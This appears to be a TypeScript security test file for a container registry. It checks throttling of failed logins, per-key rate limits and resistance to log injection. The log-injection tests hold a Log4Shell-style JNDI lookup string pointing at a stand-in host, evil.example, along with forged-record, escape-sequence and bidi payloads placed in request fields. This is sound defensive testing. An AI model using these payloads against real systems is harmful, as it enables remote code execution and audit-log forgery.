// Security tests of who comes too often, and of what the logs say of hostile requests. Their numbers are those of docs/design/security-tests.md.

import assert from 'node:assert/strict'
import { StatementSync } from 'node:sqlite'
import { after, afterEach, before, beforeEach, describe, test } from 'node:test'
import { setTimeout as sleep } from 'node:timers/promises'
import type { AccountId } from '@berth/api/names/registry.ts'
import { failedLoginBudget } from '../../src/auth/failed-logins.ts'
import { randomIds } from '../../src/base/ids.ts'
import { auditRecords } from '../support/audit-records.ts'
import { targetPrefix } from '../support/aws-wire.ts'
import { account, type ContractRegistry, contractRegistry } from '../support/contract-registry.ts'
import { createRole } from '../support/given-access.ts'
import { heapBytes } from '../support/heap.ts'
import { assertOciError } from '../support/oci-wire.ts'
import type { Answer } from '../support/plain-http.ts'
import { assertQueryError, queryWire } from '../support/query-wire.ts'
import { storeUnderTest } from '../support/stores.ts'

const administrator = 'arn:aws:iam::aws:policy/AdministratorAccess'
const target = `${targetPrefix}.DescribeRepositories`
/** What readers of logs have been known to look up. */
const lookUp = `$\{jndi:ldap://evil.example/a}`
const badToken = 'Basic bm90aGluZzpnb29k'

let registry: ContractRegistry
/** The budget is that of a real start; clients come through a proxy that is trusted, from addresses of their own. */
const start = async () => {
  registry = await contractRegistry({ trustedProxies: '127.0.0.1' }, { failedLoginBudget })
}
const end = () => registry?.close()

const from = (address: string) => ({ 'x-forwarded-for': address })
const knock = (address: string, accessKeyId = registry.credentials.accessKeyId, headers: Record<string, string> = {}) =>
  registry.aws.send({
    target,
    credentials: { accessKeyId, secretAccessKey: 'x'.repeat(40) },
    tamper: (signed) => ({ ...signed, ...from(address), ...headers }),
  })
const knockIdentity = (address: string, service: 'iam' | 'sts') => {
  const { clock, host, http, credentials } = registry
  const through = {
    ...http,
    send: ((method, path, request) =>
      http.send(method, path, { ...request, headers: { ...request?.headers, ...from(address) } })) as typeof http.send,
  }
  return queryWire({ http: through, host, clock, service, credentials: { ...credentials, secretAccessKey: 'x' } }).call(
    service === 'iam' ? 'ListUsers' : 'GetCallerIdentity',
  )
}
const login = (address: string, authorization = badToken) =>
  registry.http.send('GET', '/v2/', { headers: { authorization, ...from(address) } })

const exhaust = async (address: string) => {
  for (let n = 0; n < failedLoginBudget; n += 1) assert.equal((await login(address)).status, 400, `failure ${n}`)
}

function assertThrottled(answer: Answer, retryAfter: string): void {
  const body = { __type: 'ThrottlingException', message: 'Rate exceeded' }
  assert.deepEqual([answer.status, JSON.parse(answer.text), answer.headers['retry-after']], [400, body, retryAfter])
}

describe('security test 51: floods of failed logins', () => {
  beforeEach(start)
  afterEach(end)

  test('security test 51: after thirty, each door answers in its words that there were too many', async () => {
    const address = '203.0.113.7'
    for (let n = 0; n < failedLoginBudget; n += 4) {
      assert.equal((await knock(address)).status, 400)
      if (n + 1 < failedLoginBudget) assert.equal((await login(address)).status, 400)
      if (n + 2 < failedLoginBudget) assert.equal((await knockIdentity(address, 'iam')).status, 403)
      if (n + 3 < failedLoginBudget) assert.equal((await knockIdentity(address, 'sts')).status, 403)
    }
    assertThrottled(await knock(address), '6')
    for (const service of ['iam', 'sts'] as const) {
      const answer = await knockIdentity(address, service)
      assertQueryError(answer, 400, 'Throttling', 'Rate exceeded')
      assert.equal(answer.headers['retry-after'], '6')
    }
    assertOciError(await login(address), 429, 'TOOMANYREQUESTS', 'Rate exceeded', { 'retry-after': '6' })
    const link = await registry.http.send('GET', '/_berth/blobs/none', { headers: from(address) })
    assert.equal(link.status, 429)
  })

  test('security test 51: who has valid credentials is let in from the same address, and others wait for nobody', async () => {
    await exhaust('198.51.100.9')
    assert.equal((await login('198.51.100.9')).status, 429)
    const { authorizationData } = await registry.aws.ok<{ authorizationData: { authorizationToken: string }[] }>(
      'GetAuthorizationToken',
    )
    const good = `Basic ${authorizationData[0]?.authorizationToken}`
    assert.equal((await login('198.51.100.9', good)).status, 200)
    const call = { target, tamper: (headers: Record<string, string>) => ({ ...headers, ...from('198.51.100.9') }) }
    assert.equal((await registry.aws.send(call)).status, 200)
    assert.equal((await login('198.51.100.10')).status, 400)
    // Of IPv6 a client has a network, and with it more addresses than anybody counts.
    for (let n = 0; n < failedLoginBudget; n += 1) await login(`2001:db8:1:2::${n.toString(16)}`)
    assert.equal((await login('2001:db8:1:2:ffff::1')).status, 429)
    assert.equal((await login('2001:db8:1:3::1')).status, 400)
  })

  test('security test 51: an address of the machine itself is counted like others', async () => {
    for (let n = 0; n < failedLoginBudget; n += 1)
      await registry.http.send('GET', '/v2/', { headers: { authorization: badToken } })
    assert.equal((await registry.http.send('GET', '/v2/', { headers: { authorization: badToken } })).status, 429)
  })

  test('security test 51: tokens that were revoked and tokens of web identities count; those that have expired do not', async () => {
    const bob = await registry.createUser('bob', [administrator])
    const answer = await registry
      .awsAs(bob)
      .ok<{ authorizationData: { authorizationToken: string }[] }>('GetAuthorizationToken')
    const token = `Basic ${answer.authorizationData[0]?.authorizationToken}`
    await registry.setKeyStatus(bob.accessKeyId, 'Inactive')
    for (let n = 0; n < failedLoginBudget; n += 1) assert.equal((await login('192.0.2.1', token)).status, 403)
    assert.equal((await login('192.0.2.1', token)).status, 429)

    const body = new URLSearchParams({
      ...{
        Action: 'AssumeRoleWithWebIdentity',
        Version: '2011-06-15',
        RoleArn: `arn:aws:iam::${account}:role/any`,
        RoleSessionName: 'job',
      },
      WebIdentityToken: 'eyJhbGciOiJSUzI1NiJ9.e30.c2lnbmF0dXJl',
    }).toString()
    const headers = { 'content-type': 'application/x-www-form-urlencoded', ...from('192.0.2.2') }
    const assume = () => registry.http.send('POST', '/', { headers, body })
    for (let n = 0; n < failedLoginBudget; n += 1) {
      const { text } = await assume()
      assert.doesNotMatch(text, /Throttling/)
    }
    assertQueryError(await assume(), 400, 'Throttling', 'Rate exceeded')

    await registry.setKeyStatus(bob.accessKeyId, 'Active')
    registry.clock.advance(12 * 3_600_000)
    for (let n = 0; n <= failedLoginBudget; n += 1) assert.equal((await login('192.0.2.3', token)).status, 403)
  })

  test('security test 51: the audit log has a line for each of the first thirty, and then one for each time of waiting', async () => {
    const records = auditRecords(registry)
    const address = '203.0.113.8'
    await exhaust(address)
    for (let n = 0; n < 100; n += 1) await login(address)
    registry.clock.advance(6000)
    for (let n = 0; n < 50; n += 1) await knock(address)
    const lines = (await records.next()).filter(({ sourceIPAddress }) => sourceIPAddress === address)
    assert.deepEqual(
      lines
        .slice(failedLoginBudget)
        .map(({ eventName, errorCode, errorMessage }) => [eventName, errorCode, errorMessage]),
      [
        ['DockerLogin', 'TOOMANYREQUESTS', summary(6, 0)],
        [
          'DescribeRepositories',
          'InvalidSignatureException',
          'The request signature we calculated does not match the signature you provided. Check your AWS Secret Access Key and signing method. Consult the service documentation for details.',
        ],
        ['DescribeRepositories', 'ThrottlingException', summary(12, 99)],
      ],
    )
  })

  const summary = (seconds: number, before: number) =>
    `Rate exceeded: failed logins from this address are not recorded one by one for ${seconds} s (${before} before)`

  test('security test 51: 10,000 key ids that nobody has cost no query and no memory, whatever comes with them', async () => {
    const flood = (first: number, count: number) =>
      inTurns(count, async (index) => {
        const n = first + index
        const accountId = String(n % 2 === 0 ? 999_999_999_999 - n : account) as AccountId
        const accessKeyId = randomIds.accessKey(accountId, n % 3 === 0 ? 'ASIA' : 'AKIA')
        const answer = await knock(addressOf(n), accessKeyId, { 'user-agent': `${n}-`.padEnd(6000, 'x') })
        assert.equal(answer.status, 400)
      })
    await flood(0, 2000)
    const before = await settledHeapBytes()
    const queries = countQueries()
    try {
      await flood(2000, 8000)
    } finally {
      queries.stop()
    }
    // Statements of SQLite run in this process; those of PostgreSQL are not seen here.
    if (storeUnderTest() === 'files') assert.deepEqual([...new Set(queries.texts)], [])
    const grown = (await settledHeapBytes()) - before
    // Had they left their user agents anywhere, it would be 48 MB.
    assert.ok(grown < 12 * 1024 * 1024, `${grown} bytes more`)
  })
})

describe('calls that are too many', () => {
  before(start)
  after(end)

  test('GetAuthorizationToken: 200 at once and 20 a second, by access key', async () => {
    const [bob, eve] = [
      await registry.createUser('bob', [administrator]),
      await registry.createUser('eve', [administrator]),
    ]
    const ask = (who: typeof bob) => registry.awsAs(who).call('GetAuthorizationToken')
    for (let n = 0; n < 200; n += 1) assert.equal((await ask(bob)).status, 200)
    assertThrottled(await ask(bob), '1')
    assert.equal((await ask(eve)).status, 200)
    assert.equal((await registry.awsAs(bob).call('DescribeRepositories')).status, 200)
    registry.clock.advance(1000)
    for (let n = 0; n < 20; n += 1) assert.equal((await ask(bob)).status, 200)
    assertThrottled(await ask(bob), '1')
  })

  test('STS: 200 at once and 100 a second, by access key', async () => {
    const mallory = await registry.createUser('mallory', [administrator])
    const ask = () => registry.sts(mallory).call('GetCallerIdentity')
    for (let n = 0; n < 200; n += 1) assert.equal((await ask()).status, 200)
    assertQueryError(await ask(), 400, 'Throttling', 'Rate exceeded')
    assert.equal((await registry.sts().call('GetCallerIdentity')).status, 200)
    assert.equal((await registry.iam(mallory).call('ListRoles')).status, 200)
    registry.clock.advance(10)
    assert.equal((await ask()).status, 200)
  })
})

describe('security test 44: log injection', () => {
  before(start)
  after(end)

  test('security test 44: whatever a request says, a record is one line of printable ASCII, and cut', async () => {
    const records = auditRecords(registry)
    const hostile = `\n{"eventName":"Forged"}\r\n\u001b[31m\u009b2J\u2028\u202e${lookUp}`
    const { arn } = await createRole(registry.iam(), {
      name: 'any',
      trust: { Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${account}:user/admin` }, Action: 'sts:AssumeRole' },
    })
    await records.next()
    const tags = [{ Key: hostile, Value: hostile }]
    await registry.aws.call('CreateRepository', { repositoryName: hostile, tags })
    await registry.aws.call('CreateRepository', { repositoryName: 'logged', tags, [hostile]: { [hostile]: hostile } })
    await registry.aws.call('DeleteRepository', { repositoryName: 'x'.repeat(500_000) })
    await registry.sts().call('AssumeRole', { RoleArn: arn, RoleSessionName: hostile })
    await registry.iam().call('CreateUser', { UserName: hostile })
    for (const reference of ['\u001b[31m', `sha256:${'\u202e'}`])
      await registry.oci.send('PUT', `/v2/logged/manifests/${encodeURIComponent(reference)}`)
    const headers = { authorization: badToken, ...from('203.0.113.44') }
    const agents = [lookUp, 'x'.repeat(15_000), '\u009b2J\u0085']
    for (const agent of agents)
      await registry.http.send('GET', '/v2/', { headers: { ...headers, 'user-agent': agent } })
    const lines = await records.next()
    assert.equal(lines.length, 10)
    const raw = await records.raw()
    assert.doesNotMatch(raw, /[^\n -~]/)
    assert.doesNotMatch(raw, /\$\{/)
    for (const line of raw.trimEnd().split('\n')) {
      assert.ok(line.length < 64 * 1024)
      assert.notEqual((JSON.parse(line) as { eventName: string }).eventName, 'Forged')
    }
    const [jndi, long] = lines.slice(-3).map(({ userAgent }) => String(userAgent))
    assert.equal(jndi, agents[0])
    assert.equal(long?.length, 1024)
    assert.equal(long?.endsWith('...'), true)
  })

  test('security test 44: headers with line ends, control characters or 100 KB never get that far', async () => {
    for (const [agent, status] of [
      ['a\rb', 400],
      ['\u001b[31m', 400],
      ['a\0b', 400],
      ['x'.repeat(100_000), 431],
    ] as const) {
      const connection = await registry.http.connection()
      connection.write(`GET /v2/ HTTP/1.1\r\nHost: a\r\nUser-Agent: ${agent}\r\n\r\n`)
      assert.match(await connection.ended(), new RegExp(`^HTTP/1\\.1 ${status} `), JSON.stringify(agent.slice(0, 20)))
    }
  })
})

/** Other ones for other numbers. */
const addressOf = (n: number) => `10.${(n >> 16) & 255}.${(n >> 8) & 255}.${n & 255}`

/** Sixteen at a time, as many connections as there are. */
async function inTurns(count: number, task: (n: number) => Promise<unknown>): Promise<void> {
  let next = 0
  const worker = async () => {
    for (let n = next++; n < count; n = next++) await task(n)
  }
  await Promise.all(Array.from({ length: 16 }, worker))
}

/** Statements of SQLite that run in this process. */
function countQueries(): { texts: string[]; stop: () => void } {
  const texts: string[] = []
  const { all, get, iterate, run } = StatementSync.prototype
  const counted = <M extends typeof all | typeof get | typeof iterate | typeof run>(method: M) =>
    function (this: StatementSync, ...given: Parameters<M>) {
      // Whether another process has changed the file is no question about a row.
      if (this.sourceSQL !== 'PRAGMA data_version') texts.push(this.sourceSQL)
      return Reflect.apply(method, this, given)
    } as M
  Object.assign(StatementSync.prototype, {
    ...{ all: counted(all), get: counted(get), iterate: counted(iterate), run: counted(run) },
  })
  return { texts, stop: () => void Object.assign(StatementSync.prototype, { all, get, iterate, run }) }
}

/** The audit log writes what it has within 100 ms. */
async function settledHeapBytes(): Promise<number> {
  await sleep(300)
  return heapBytes()
}
